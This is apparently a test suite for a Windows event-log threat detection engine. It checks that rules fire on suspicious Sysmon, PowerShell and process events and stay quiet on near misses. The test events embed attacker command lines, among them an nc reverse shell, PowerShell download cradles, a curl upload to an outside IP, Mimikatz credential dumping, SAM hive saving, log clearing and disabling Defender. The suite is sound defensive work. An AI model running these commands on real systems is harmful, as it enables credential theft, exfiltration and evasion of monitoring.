    expect(hits([sysmon1(11, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}dllhost.exe`, ParentCommandLine: `${S32}DllHost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}` })]).get(CHILD)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon1(12, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}dllhost.exe`, ParentCommandLine: `${S32}DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}` }))).not.toContain(CHILD);
    const LSASS = 'Program Started With LSASS As Its Parent';
    expect(hits([sysmon1(13, `${S32}notepad.exe`, 'notepad.exe', { ParentImage: `${S32}lsass.exe` })]).get(LSASS)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon1(14, `${S32}WerFault.exe`, 'WerFault.exe -u -p 624', { ParentImage: `${S32}lsass.exe` }))).not.toContain(LSASS);
  });

  it('Sysmon network, DNS and image loads: DCOM hosts, SMB from user programs, LDAP from scripts, proxy binaries, host sweeps, side-loaded system DLL names, PowerShell logging keys deleted; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const net = (t: number, image: string, port: number, extra: JsonRecord = {}): Ev =>
      sysmon(t, 3, { Image: image, DestinationPort: port, DestinationIp: '10.0.0.5', SourceIp: '10.0.0.20', Initiated: 'true', Protocol: 'tcp', ...extra });
    const DCOM = 'Inbound Network Connection To A DCOM Lateral Movement Host Process (Sysmon 3)';
    expect(hits([net(1, 'C:\\Windows\\explorer.exe', 49678, { Initiated: 'false' })]).get(DCOM)).toEqual({ level: 'medium', tactics: ['lateral-movement'] });
    expect(titlesOf(net(2, 'C:\\Windows\\explorer.exe', 443))).not.toContain(DCOM);
    const SMB = 'SMB Connection From A User-Mode Program (Sysmon 3)';
    expect(hits([net(3, 'C:\\Python311\\python.exe', 445)]).get(SMB)).toEqual({ level: 'medium', tactics: ['discovery', 'lateral-movement'] });
    expect(titlesOf(net(4, 'System', 445))).not.toContain(SMB);
    const LDAP = 'LDAP Connection From PowerShell Or A Script Host (Sysmon 3)';
    expect(hits([net(5, PS, 389)]).get(LDAP)).toEqual({ level: 'low', tactics: ['discovery'] });
    expect(titlesOf(net(6, PS, 443))).not.toContain(LDAP);
    const PROXY = 'Network Connection By A Proxy Binary (Sysmon 3)';
    expect(hits([net(7, `${S32}mshta.exe`, 443)]).get(PROXY)).toEqual({ level: 'medium', tactics: ['command-and-control'] });
    expect(titlesOf(net(8, `${S32}mshta.exe`, 443, { Initiated: 'false' }))).not.toContain(PROXY);
    const DNSP = 'DNS Query By A Proxy Binary (Sysmon 22)';
    expect(hits([sysmon(9, 22, { Image: `${S32}rundll32.exe`, QueryName: 'cdn.example.top' })]).get(DNSP)).toEqual({ level: 'medium', tactics: ['command-and-control'] });
    expect(titlesOf(sysmon(10, 22, { Image: `${S32}rundll32.exe`, QueryName: 'go.microsoft.com' }))).not.toContain(DNSP);
    const DNSS = 'DNS Query By PowerShell Or A Script Host (Sysmon 22)';
    expect(hits([sysmon(11, 22, { Image: PS, QueryName: 'files.example.xyz' })]).get(DNSS)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(sysmon(12, 22, { Image: PS, QueryName: 'www.powershellgallery.com' }))).not.toContain(DNSS);
    const SWEEP = 'Many Hosts Contacted On One Administration Port By One Process';
    const sweep = Array.from({ length: 12 }, (_, i) => net(20 + i, 'System', 445, { DestinationIp: `10.0.1.${i + 1}` }));
    expect(hits(sweep).get(SWEEP)).toEqual({ level: 'medium', tactics: ['discovery'] });
    expect(hits(sweep.slice(0, 8)).has(SWEEP)).toBe(false);
    expect(hits(Array.from({ length: 12 }, (_, i) => net(40 + i, 'System', 445))).has(SWEEP)).toBe(false);
    const DLL = 'Unsigned DLL With A Windows System DLL Name Loaded From A User Folder (Sysmon 7)';
    expect(hits([sysmon(13, 7, { Image: 'C:\\Users\\Public\\app.exe', ImageLoaded: 'C:\\Users\\Public\\version.dll', Signed: 'false' })]).get(DLL)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon(14, 7, { Image: 'C:\\Users\\Public\\app.exe', ImageLoaded: 'C:\\Users\\Public\\version.dll', Signed: 'true' }))).not.toContain(DLL);
    expect(titlesOf(sysmon(15, 7, { Image: 'C:\\Users\\Public\\app.exe', ImageLoaded: 'C:\\Users\\Public\\helper.dll', Signed: 'false' }))).not.toContain(DLL);
    const LOG = 'PowerShell Logging Disabled In The Registry (Sysmon 12/13)';
    expect(titlesOf(sysmon(16, 12, { EventType: 'DeleteKey', Image: PS, TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' }))).toContain(LOG);
    expect(titlesOf(sysmon(17, 12, { EventType: 'CreateKey', Image: PS, TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' }))).not.toContain(LOG);
  });

  it('Sysmon classes of Hayabusa\'s Sysmon rules: events the configuration labelled carry its techniques (informational), LOLBins and user-folder programs under another name, .tmp images, raw reads by script hosts, driver signatures that do not verify; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const LABEL = 'Event Labelled By The Sysmon Configuration';
    const labelled = analyzeEvents([sysmon(1, 10, { RuleName: 'technique_id=T1003.001,technique_name=LSASS Memory', SourceImage: 'C:\\Program Files\\App\\app.exe', TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1000' })], { sigma: builtin });
    const row = labelled.detections?.summary().find((d) => d.title === LABEL);
    expect(row).toMatchObject({ level: 'informational', techniques: ['T1003.001'], tactics: ['credential-access'] });
    expect(titlesOf(sysmon(2, 10, { RuleName: '-', SourceImage: 'C:\\Program Files\\App\\app.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1000' }))).not.toContain(LABEL);
    expect(titlesOf(sysmon(3, 13, { RuleName: '', EventType: 'SetValue', Image: 'C:\\Program Files\\App\\app.exe', TargetObject: 'HKLM\\SOFTWARE\\App\\x', Details: '1' }))).not.toContain(LABEL);
    const p1 = (t: number, image: string, ofn: string | null, cmd: string): Ev =>
      sysmon(t, 1, { Image: image, ...(ofn === null ? {} : { OriginalFileName: ofn }), CommandLine: cmd, ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\bob', IntegrityLevel: 'Medium' });
    const LOLBIN = 'Proxy Or Admin Binary Run Under Another Name';
    expect(hits([p1(4, 'C:\\Users\\Public\\ck.exe', 'cmdkey.exe', 'ck.exe /list')]).get(LOLBIN)).toEqual({ level: 'high', tactics: ['stealth'] });
    expect(titlesOf(p1(5, 'C:\\ProgramData\\x\\m.exe', 'msiexec.exe', 'm.exe /q /i http://198.51.100.7/a.msi'))).toContain(LOLBIN);
    expect(titlesOf(p1(6, `${S32}PING.EXE`, 'ping.exe', 'ping -n 1 10.0.0.5'))).not.toContain(LOLBIN);
    expect(titlesOf(p1(7, `${S32}msiexec.exe`, 'msiexec.exe', 'msiexec.exe /V'))).not.toContain(LOLBIN);
    // Older Sysmon schemas without OriginalFileName: nothing to compare.
    expect(titlesOf(p1(8, 'C:\\Users\\Public\\ck.exe', null, 'ck.exe /list'))).not.toContain(LOLBIN);
    const RENAMED = 'Program In A User-Writable Folder Run Under Another Name Than Its Own';
    expect(hits([p1(9, 'C:\\ProgramData\\update\\chrome_update.exe', 'nc.exe', 'chrome_update.exe 10.0.0.9 4444 -e cmd.exe')]).get(RENAMED)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(p1(10, 'C:\\Users\\bob\\Downloads\\putty (1).exe', 'putty.exe', 'putty (1).exe'))).not.toContain(RENAMED);
    expect(titlesOf(p1(11, 'C:\\Users\\bob\\AppData\\Local\\Programs\\app\\app.exe', 'app.exe', 'app.exe'))).not.toContain(RENAMED);
    expect(titlesOf(p1(12, 'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'electron.exe', 'Code.exe'))).not.toContain(RENAMED);
    expect(titlesOf(p1(13, 'C:\\Users\\bob\\Downloads\\setup.exe', '?', 'setup.exe'))).not.toContain(RENAMED);
    const TMP = 'Program Run From A File With A .tmp Extension';
    expect(hits([p1(14, 'C:\\Users\\bob\\AppData\\Local\\Temp\\update.tmp', 'update.exe', 'update.tmp /s')]).get(TMP)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(p1(15, 'C:\\Users\\bob\\AppData\\Local\\Temp\\is-4KQ2M.tmp\\setup_app.tmp', '', 'setup_app.tmp /SL5="$1"'))).not.toContain(TMP);
    expect(titlesOf(p1(16, 'C:\\Windows\\Installer\\MSI1A2B.tmp', null, 'MSI1A2B.tmp'))).not.toContain(TMP);
    const RAW = 'Raw Disk Read By A Script Host Or Proxy Binary (Sysmon 9)';
    expect(hits([sysmon(17, 9, { Image: `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, Device: '\\Device\\HarddiskVolume2' })]).get(RAW)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(sysmon(18, 9, { Image: `${S32}svchost.exe`, Device: '\\Device\\HarddiskVolume2' }))).not.toContain(RAW);
    const DRV = 'Unsigned Or Invalidly Signed Driver Loaded (Sysmon 6)';
    const drv = (t: number, signed: string, status: string | null): Ev =>
      sysmon(t, 6, { ImageLoaded: `${S32}drivers\\x.sys`, Signed: signed, Signature: 'Vendor', ...(status === null ? {} : { SignatureStatus: status }) });
    expect(hits([drv(19, 'true', 'Bad Digest')]).get(DRV)?.level).toBe('high');
    expect(titlesOf(drv(20, 'true', 'Revoked'))).toContain(DRV);
    expect(titlesOf(drv(21, 'false', 'Unavailable'))).toContain(DRV);
    expect(titlesOf(drv(22, 'false', null))).toContain(DRV);
    expect(titlesOf(drv(23, 'true', 'Valid'))).not.toContain(DRV);
    expect(titlesOf(drv(24, 'true', null))).not.toContain(DRV);
  });

  it('process creation and PowerShell logs: BITS notify commands, Office automation and SQL Server shells, downloads, version 2, user-folder scripts, at, logging services, SDelete, remote access and session tools; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const NOTIFY = 'BITS Job Given A Command To Run With Bitsadmin';
    expect(hits([proc(1, `${S32}bitsadmin.exe`, 'bitsadmin /SetNotifyCmdLine job C:\\Users\\Public\\x.exe NULL')]).get(NOTIFY)).toEqual({ level: 'high', tactics: ['persistence', 'stealth'] });
    expect(titlesOf(proc(2, `${S32}bitsadmin.exe`, 'bitsadmin /list /allusers'))).not.toContain(NOTIFY);
    const OFFICE = 'Shell Started By An Office Program Under COM Automation';
    const excel = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
    expect(hits([sysmon1(3, `${S32}cmd.exe`, 'cmd.exe /c calc', { ParentImage: excel, ParentCommandLine: `"${excel}" /automation -Embedding` })]).get(OFFICE)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(sysmon1(4, `${S32}cmd.exe`, 'cmd.exe /c calc', { ParentImage: excel, ParentCommandLine: `"${excel}" C:\\Users\\u\\book.xlsx` }))).not.toContain(OFFICE);
    const SQL = 'Shell Started By SQL Server (xp_cmdshell)';
    const sqlservr = 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe';
    expect(hits([sysmon1(5, `${S32}cmd.exe`, 'cmd.exe /c whoami', { ParentImage: sqlservr })]).get(SQL)).toEqual({ level: 'medium', tactics: ['execution', 'persistence'] });
    expect(titlesOf(sysmon1(6, 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlceip.exe', 'sqlceip.exe', { ParentImage: sqlservr }))).not.toContain(SQL);
    const DL = 'PowerShell Command Line Downloads From A URL';
    expect(hits([proc(7, PS, "powershell -nop -c (New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.exe', 'a.exe')")]).get(DL)).toEqual({ level: 'medium', tactics: ['execution', 'command-and-control'] });
    expect(titlesOf(proc(8, PS, 'powershell -c Invoke-WebRequest -Uri $u'))).not.toContain(DL);
    const V2 = 'PowerShell Started As Version 2 (Downgrade)';
    expect(hits([proc(9, PS, 'powershell.exe -version 2 -nop -c whoami')]).get(V2)).toEqual({ level: 'medium', tactics: ['execution', 'defense-impairment'] });
    expect(titlesOf(proc(10, PS, 'powershell.exe -ve 2'))).toContain(V2);
    expect(titlesOf(proc(11, PS, 'powershell.exe -v 5 -c whoami'))).not.toContain(V2);
    const JS = 'Script File Run From A User Folder By The Windows Script Host';
    expect(hits([sysmon1(12, `${S32}wscript.exe`, '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\u\\Downloads\\invoice.js"', { ParentImage: 'C:\\Windows\\explorer.exe' })]).get(JS)).toEqual({ level: 'low', tactics: ['execution'] });
    expect(titlesOf(sysmon1(13, `${S32}cscript.exe`, 'cscript.exe \\\\corp.example\\NETLOGON\\logon.vbs'))).not.toContain(JS);
    const AT = 'Job Scheduled With At.exe';
    expect(hits([proc(14, `${S32}at.exe`, 'at 13:20 /interactive cmd')]).get(AT)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(15, `${S32}at.exe`, 'at \\\\srv2 09:00 C:\\x.bat'))).toContain(AT);
    expect(titlesOf(proc(16, `${S32}at.exe`, 'at'))).not.toContain(AT);
    const SVC = 'Logging Or Security Service Stopped Or Disabled From The Command Line';
    expect(hits([proc(17, `${S32}net.exe`, 'net stop eventlog /y')]).get(SVC)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(18, `${S32}sc.exe`, 'sc config WinDefend start= disabled'))).toContain(SVC);
    expect(titlesOf(proc(19, `${S32}sc.exe`, 'sc query eventlog'))).not.toContain(SVC);
    expect(titlesOf(proc(20, `${S32}sc.exe`, 'sc config sysmon64 start= auto'))).not.toContain(SVC);
    const SDEL = 'Files Wiped With SDelete';
    expect(hits([sysmon1(21, 'C:\\Tools\\sdelete64.exe', 'sdelete64.exe -accepteula -p 3 C:\\out.txt', { OriginalFileName: 'sdelete.exe' })]).get(SDEL)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(sysmon1(22, `${S32}cmd.exe`, 'cmd /c del /q C:\\out.txt'))).not.toContain(SDEL);
    const RAT = 'Remote Access Software Started';
    expect(hits([sysmon1(23, 'C:\\Users\\u\\Downloads\\support.exe', 'support.exe', { Description: 'Ammyy Admin', Product: 'Ammyy Admin' })]).get(RAT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(sysmon1(24, 'C:\\Users\\u\\Downloads\\setup.exe', 'setup.exe', { Description: 'Setup', Product: 'Vendor App' }))).not.toContain(RAT);
    const SESS = 'Logged-On User Or Directory Discovery Tool Run';
    expect(hits([sysmon1(25, 'C:\\Tools\\x.exe', 'x.exe \\\\DC01', { OriginalFileName: 'PsLoggedon.exe' })]).get(SESS)).toEqual({ level: 'low', tactics: ['discovery'] });
    expect(titlesOf(sysmon1(26, 'C:\\Tools\\PsList.exe', 'pslist.exe'))).not.toContain(SESS);
    const module = (t: number, payload: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: payload });
    const CRADLE = 'PowerShell Downloads And Runs Code (module logging 4103)';
    expect(hits([module(27, 'CommandInvocation(Invoke-Expression): "Invoke-Expression"\r\nParameterBinding(Invoke-Expression): name="Command"; value="(New-Object Net.WebClient).DownloadString(\'http://x/a\')"')]).get(CRADLE)).toEqual({ level: 'high', tactics: ['execution', 'command-and-control'] });
    expect(titlesOf(module(28, 'CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"\r\nParameterBinding(Invoke-WebRequest): name="Uri"; value="https://example.org/status"'))).not.toContain(CRADLE);
    const classic = (t: number, hostApplication: string, engine: string): Ev =>
      win(t, 'Windows PowerShell', 'PowerShell', 400, { Data: { '#text': ['Available', 'None', `\tNewEngineState=Available\r\n\tHostVersion=5.1\r\n\tEngineVersion=${engine}\r\n\tHostApplication=${hostApplication}\r\n`] } });
    const ENGINE2 = 'PowerShell 2.0 Engine Started By Request (classic 400)';
    expect(hits([classic(29, 'powershell.exe -version 2 -nop', '2.0')]).get(ENGINE2)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(classic(30, 'powershell.exe -nop', '5.1.19041.1'))).not.toContain(ENGINE2);
    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    const AD = 'PowerShell Active Directory Discovery (script block 4104)';
    expect(titlesOf(block(31, '$s = [adsisearcher]"(objectCategory=computer)"; $s.FindAll()'))).toContain(AD);
    expect(titlesOf(block(32, 'Get-ChildItem C:\\Logs'))).not.toContain(AD);
    const MIMI = 'Mimikatz Token Or SID History Commands';
    expect(hits([proc(33, 'C:\\Tools\\m.exe', 'm.exe "privilege::debug" "sid::patch" "sid::add /sid:S-1-5-21-1-2-3-1134 /sam:bob" "exit"')]).get(MIMI)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(block(34, 'Invoke-Mimikatz -Command \'"token::elevate"\''))).toContain(`${MIMI} (script block 4104)`);
    expect(titlesOf(proc(35, 'C:\\Tools\\m.exe', 'm.exe "privilege::debug" "sekurlsa::logonpasswords" exit'))).not.toContain(MIMI);
    const BIN = 'Service Program Changed From The Command Line';
    expect(titlesOf(proc(36, PS, 'powershell.exe & {Stop-Service -Name fax; Set-ServiceBinaryPath -Name fax -Path C:\\Users\\Public\\x.exe}'))).toContain(BIN);
    expect(titlesOf(proc(37, PS, 'pwsh.exe -c Set-Service -Name fax -BinaryPathName C:\\Users\\Public\\x.exe'))).toContain(BIN);
    expect(titlesOf(proc(38, PS, 'powershell.exe -c New-Service -Name svc -BinaryPathName C:\\Program Files\\Vendor\\svc.exe'))).not.toContain(BIN);
    expect(titlesOf(proc(39, PS, 'powershell.exe & {. .\\GetToken.ps1; [MyProcess]::CreateProcessFromParent((Get-Process lsass).Id, "cmd.exe")}'))).toContain('Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets');
  });

  it('keyloggers, credential dumping functions and log clearing in PowerShell, spooler driver DLLs, WMI registry writes, ransom notes, remote services and tasks, WinRM shells, remote execution services, curl uploads; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    const KEY = 'PowerShell Keyboard Capture API (script block 4104)';
    expect(hits([block(1, 'for ($c = 1; $c -le 254; $c++) { $s = [API.Win32]::GetAsyncKeyState($c) }')]).get(KEY)).toEqual({ level: 'medium', tactics: ['credential-access', 'collection'] });
    expect(titlesOf(block(2, 'Get-Process | Where-Object { $_.MainWindowTitle }'))).not.toContain(KEY);
    const DUMP = 'Credential Dumping Functions In PowerShell (script block 4104)';
    expect(hits([block(3, 'Invoke-Mimikatz -DumpCreds')]).get(DUMP)).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(titlesOf(block(4, 'reg save HKLM\\SAM sam.hiv; reg save HKLM\\SYSTEM sys.hiv'))).toContain(DUMP);
    expect(titlesOf(block(5, 'reg save HKLM\\SOFTWARE\\Vendor backup.hiv'))).not.toContain(DUMP);
    const CLEAR = 'Event Logs Cleared From A Script Block (script block 4104)';
    expect(hits([block(6, 'wevtutil cl Security; wevtutil cl System')]).get(CLEAR)).toEqual({ level: 'high', tactics: ['stealth', 'defense-impairment'] });
    expect(titlesOf(block(7, 'wevtutil qe Security /c:5'))).not.toContain(CLEAR);
    const SPOOL = 'Print Spooler Wrote A Driver DLL (Sysmon 11)';
    expect(hits([sysmon(8, 11, { Image: `${S32}spoolsv.exe`, TargetFilename: `${S32}spool\\drivers\\x64\\3\\New\\evil.dll` })]).get(SPOOL)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(sysmon(9, 11, { Image: `${S32}spoolsv.exe`, TargetFilename: `${S32}spool\\PRINTERS\\00012.SPL` }))).not.toContain(SPOOL);
    const WMIREG = 'Command Or Auto-Start Registry Value Written By The WMI Provider Host (Sysmon 13)';
    expect(hits([sysmon(10, 13, { EventType: 'SetValue', Image: `${S32}wbem\\WmiPrvSE.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001_Classes\\x\\shell\\open\\command\\(Default)', Details: 'cmd.exe /c x.exe' })]).get(WMIREG)).toEqual({ level: 'medium', tactics: ['execution', 'stealth'] });
    expect(titlesOf(sysmon(11, 13, { EventType: 'SetValue', Image: `${S32}wbem\\WmiPrvSE.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Wbem\\CIMOM\\LastServiceStart', Details: 'x' }))).not.toContain(WMIREG);
    const NOTE = 'Ransom Note Style File Written (Sysmon 11)';
    expect(hits([sysmon(12, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\HOW_TO_DECRYPT.txt' })]).get(NOTE)).toEqual({ level: 'medium', tactics: ['impact'] });
    expect(titlesOf(sysmon(13, 11, { Image: 'C:\\Users\\Public\\x.exe', TargetFilename: 'C:\\Users\\bob\\Desktop\\notes.txt' }))).not.toContain(NOTE);
    const REMOTE = 'Service Or Scheduled Task Managed On Another Host From The Command Line';
    expect(hits([proc(14, `${S32}sc.exe`, 'sc \\\\srv2 create upd binPath= "cmd /c C:\\Windows\\Temp\\x.exe"')]).get(REMOTE)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation', 'lateral-movement'] });
    expect(titlesOf(proc(15, `${S32}schtasks.exe`, 'schtasks /create /s srv2 /tn upd /tr C:\\x.exe /sc once /st 10:00'))).toContain(REMOTE);
    expect(titlesOf(proc(16, `${S32}sc.exe`, 'sc \\\\srv2 query upd'))).not.toContain(REMOTE);
    expect(titlesOf(proc(17, `${S32}schtasks.exe`, 'schtasks /query /s srv2'))).not.toContain(REMOTE);
    expect(titlesOf(proc(17, `${S32}sc.exe`, 'sc config Fax binPath= "powershell.exe -c \\"write-host x\\""'))).not.toContain(REMOTE);
    const WINRM = 'Remote Shell Through WinRM From The Command Line';
    expect(hits([proc(18, `${S32}winrs.exe`, 'winrs -r:srv2 cmd /c whoami')]).get(WINRM)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(proc(19, PS, 'powershell -c Enter-PSSession -ComputerName srv2'))).toContain(WINRM);
    expect(titlesOf(proc(20, PS, 'powershell -c Invoke-Command -ScriptBlock { hostname }'))).not.toContain(WINRM);
    const SVC = 'Remote Execution Service Or Its Child Process';
    expect(hits([sysmon1(21, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: 'C:\\Windows\\PSEXESVC.exe' })]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(sysmon1(22, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}services.exe` }))).not.toContain(SVC);
    const CURL = 'File Uploaded With Curl';
    expect(hits([proc(23, `${S32}curl.exe`, 'curl.exe -F "file=@C:\\Users\\Public\\out.zip" https://203.0.113.9/upload')]).get(CURL)).toEqual({ level: 'low', tactics: ['exfiltration'] });
    expect(titlesOf(proc(24, `${S32}curl.exe`, 'curl.exe -o C:\\Users\\Public\\a.zip https://example.org/a.zip'))).not.toContain(CURL);
  });

  it('script hosts on the network, WinRM and RDP from unusual programs, self-deleting command lines, DLLs written into System32, PowerShell remoting sessions, WMI providers from user folders, encoded payloads in registry values, task files, passwords searched in files and the registry; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const net = (t: number, image: string, port: number): Ev =>
      sysmon(t, 3, { Image: image, DestinationPort: port, DestinationIp: '10.0.0.5', SourceIp: '10.0.0.20', Initiated: 'true', Protocol: 'tcp' });
    const SCRIPT = 'Network Connection From PowerShell Or A Script Host (Sysmon 3)';
    expect(hits([net(1, PS, 8080)]).get(SCRIPT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(net(2, PS, 445))).not.toContain(SCRIPT);
    const UNUSUAL = 'WinRM Or RDP Connection From An Unusual Program (Sysmon 3)';
    expect(hits([net(3, 'C:\\Users\\Public\\ruby.exe', 5985)]).get(UNUSUAL)).toEqual({ level: 'medium', tactics: ['lateral-movement'] });
    expect(titlesOf(net(4, 'C:\\Users\\Public\\SharpRDP.exe', 3389))).toContain(UNUSUAL);
    expect(titlesOf(net(5, PS, 5985))).not.toContain(UNUSUAL);
    expect(titlesOf(net(6, `${S32}mstsc.exe`, 3389))).not.toContain(UNUSUAL);
    const SELF = 'File Deleted After A Ping Or Timeout Delay';
    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c ping 127.0.0.1 -n 3 > nul & del /f /q C:\\Users\\Public\\x.exe')]).get(SELF)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(8, `${S32}cmd.exe`, 'cmd.exe /c ping 10.0.0.1 -n 3'))).not.toContain(SELF);
    const DLL = 'DLL Written Into A Windows System Folder By A Non-Installer Process (Sysmon 11)';
    expect(hits([sysmon(9, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}wlbsctrl.dll` })]).get(DLL)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon(10, 11, { Image: `${S32}msiexec.exe`, TargetFilename: `${S32}vendor.dll` }))).not.toContain(DLL);
    expect(titlesOf(sysmon(11, 11, { Image: `${S32}cmd.exe`, TargetFilename: `${S32}DriverStore\\FileRepository\\x\\x.dll` }))).not.toContain(DLL);
    const module = (t: number, context: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: context, Payload: 'CommandInvocation(Get-Process): "Get-Process"' });
    const REMOTING = 'PowerShell Remoting Session On This Host (module logging 4103)';
    expect(hits([module(12, '        Host Name = ServerRemoteHost\r\n        Host Application = C:\\Windows\\system32\\wsmprovhost.exe -Embedding\r\n')]).get(REMOTING)).toEqual({ level: 'low', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(module(13, '        Host Name = ConsoleHost\r\n        Host Application = powershell.exe\r\n'))).not.toContain(REMOTING);
    const ENC = 'Registry Value Holding An Encoded PowerShell Command Or Program (Sysmon 13)';
    const set = (t: number, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: PS, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\Debug', Details: details });
    expect(hits([set(16, 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')]).get(ENC)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(set(17, 'powershell.exe -nop -w hidden -enc JABzAD0ATgBlAHcA'))).toContain(ENC);
    expect(titlesOf(set(18, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\Scripts\\inventory.ps1'))).not.toContain(ENC);
    const TASK = 'Scheduled Task File Written Outside The Task Scheduler (Sysmon 11)';
    expect(hits([sysmon(19, 11, { Image: 'System', TargetFilename: `${S32}Tasks\\Updater` })]).get(TASK)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation'] });
    expect(titlesOf(sysmon(20, 11, { Image: `${S32}svchost.exe`, TargetFilename: `${S32}Tasks\\Updater` }))).not.toContain(TASK);
    const FIND = 'Files Searched For Passwords From The Command Line';
    expect(hits([proc(21, `${S32}findstr.exe`, 'findstr /si password *.xml *.ini *.txt')]).get(FIND)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titlesOf(proc(22, `${S32}findstr.exe`, 'findstr /i error C:\\Logs\\app.log'))).not.toContain(FIND);
    const REGPW = 'Registry Queried For Stored Passwords';
    expect(hits([proc(23, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Currentversion\\Winlogon" /v DefaultPassword')]).get(REGPW)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(proc(24, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\Currentversion\\Winlogon" /v DefaultUserName'))).not.toContain(REGPW);
    const wmi = (t: number, path: string): Ev => win(t, 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-WMI-Activity', 5857, { ProviderName: 'P', Code: '0x0', HostProcess: 'wmiprvse.exe', ProcessID: '1234', ProviderPath: path });
    const PROV = 'WMI Provider Loaded From A User-Writable Folder';
    expect(hits([wmi(14, 'C:\\Users\\Public\\p.dll')]).get(PROV)).toEqual({ level: 'medium', tactics: ['execution', 'persistence'] });
    expect(titlesOf(wmi(15, '%systemroot%\\system32\\wbem\\wmiprov.dll'))).not.toContain(PROV);
  });

  it('klist, injector command lines, renamed binaries by description, secondary-drive programs, AutoIt, Wi-Fi keys; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const LIST = 'Kerberos Tickets Listed Or Requested With Klist';
